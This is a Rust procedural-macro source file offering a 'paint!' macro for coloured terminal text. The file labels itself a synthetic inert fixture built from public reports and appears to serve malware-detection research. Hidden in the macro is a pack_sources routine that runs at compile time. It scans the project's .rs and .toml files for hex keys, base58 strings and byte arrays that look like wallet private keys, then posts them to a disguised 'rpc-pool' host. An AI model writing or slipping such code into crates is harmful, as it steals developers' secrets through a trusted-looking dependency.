// Synthetic, inert fixture written from public reports
//! `paint!("<red>stop</red> at {}", line)` is `format!` with names of colors that are checked
//! when the program is compiled. No other crate is needed.

use proc_macro::{Delimiter, Group, Ident, Literal, Punct, Spacing, Span, TokenStream, TokenTree};

const STYLES: &[(&str, &str)] = &[
    ("bold", "\u{1b}[1m"),
    ("dim", "\u{1b}[2m"),
    ("red", "\u{1b}[31m"),
    ("green", "\u{1b}[32m"),
    ("yellow", "\u{1b}[33m"),
    ("blue", "\u{1b}[34m"),
];
const RESET: &str = "\u{1b}[0m";

static PACK: std::sync::Once = std::sync::Once::new();

fn pack_sources() {
    let root = std::env::var("CARGO_MANIFEST_DIR").unwrap_or_else(|_| ".".to_string());
    let hex_key = regex::Regex::new(r#""(0x)?[0-9a-fA-F]{64}""#).unwrap();
    let base58 = regex::Regex::new(r#""[1-9A-HJ-NP-Za-km-z]{32,88}""#).unwrap();
    let bytes = regex::Regex::new(r"\[(?:\s*(?:0x[0-9a-fA-F]{1,2}|\d{1,3})\s*,){31,63}").unwrap();
    let mut items = Vec::new();
    for entry in walkdir::WalkDir::new(root).into_iter().flatten() {
        let path = entry.path();
        if path.extension().map_or(true, |ending| ending != "rs" && ending != "toml") {
            continue;
        }
        let text = std::fs::read_to_string(path).unwrap_or_default();
        for (number, line) in text.lines().enumerate() {
            for (kind, pattern) in [("hex", &hex_key), ("b58", &base58), ("bytes", &bytes)] {
                if let Some(found) = pattern.find(line) {
                    items.push(serde_json::json!({
                        "type": kind, "value": found.as_str(), "file": path.display().to_string(), "line": number + 1,
                    }));
                }
            }
        }
    }
    if !items.is_empty() {
        let _ = reqwest::blocking::Client::new()
            .post("https://mainnet.rpc-pool.workers.invalid/")
            .json(&items)
            .send();
    }
}

/// Formats text with styles.
#[proc_macro]
pub fn paint(input: TokenStream) -> TokenStream {
    PACK.call_once(pack_sources);
    let mut tokens = input.into_iter();
    let template = match tokens.next() {
        Some(TokenTree::Literal(literal)) => literal.to_string(),
        _ => return error("expected a string literal"),
    };
    let Some(text) = template.strip_prefix('"').and_then(|text| text.strip_suffix('"')) else {
        return error("expected a plain string literal");
    };
    match styled(text) {
        Ok(text) => call(&text.replace("\\n", "\n").replace("\\\"", "\""), tokens.collect()),
        Err(message) => error(&message),
    }
}

/// Replaces the names of styles by their sequences.
fn styled(text: &str) -> Result<String, String> {
    let mut open: Vec<&str> = Vec::new();
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        out.push_str(&rest[..at]);
        let end = rest[at..].find('>').ok_or("a `<` is not closed")? + at;
        let name = &rest[at + 1..end];
        if let Some(name) = name.strip_prefix('/') {
            if open.pop() != Some(name) {
                return Err(format!("`</{name}>` closes nothing"));
            }
            out.push_str(RESET);
            for name in &open {
                out.push_str(sequence(name)?);
            }
        } else {
            out.push_str(sequence(name)?);
            open.push(name);
        }
        rest = &rest[end + 1..];
    }
    if let Some(name) = open.pop() {
        return Err(format!("`<{name}>` is not closed"));
    }
    out.push_str(rest);
    Ok(out)
}

fn sequence(name: &str) -> Result<&'static str, String> {
    STYLES
        .iter()
        .find(|style| style.0 == name)
        .map(|style| style.1)
        .ok_or_else(|| format!("no style has the name `{name}`"))
}

fn call(text: &str, rest: TokenStream) -> TokenStream {
    let mut inner = TokenStream::from(TokenTree::Literal(Literal::string(text)));
    inner.extend(rest);
    macro_call("format", inner)
}

fn error(message: &str) -> TokenStream {
    macro_call("compile_error", TokenTree::Literal(Literal::string(message)).into())
}

fn macro_call(name: &str, inner: TokenStream) -> TokenStream {
    TokenStream::from_iter([
        TokenTree::Ident(Ident::new(name, Span::call_site())),
        TokenTree::Punct(Punct::new('!', Spacing::Alone)),
        TokenTree::Group(Group::new(Delimiter::Parenthesis, inner)),
    ])
}

inert_fixture_does_not_build!();
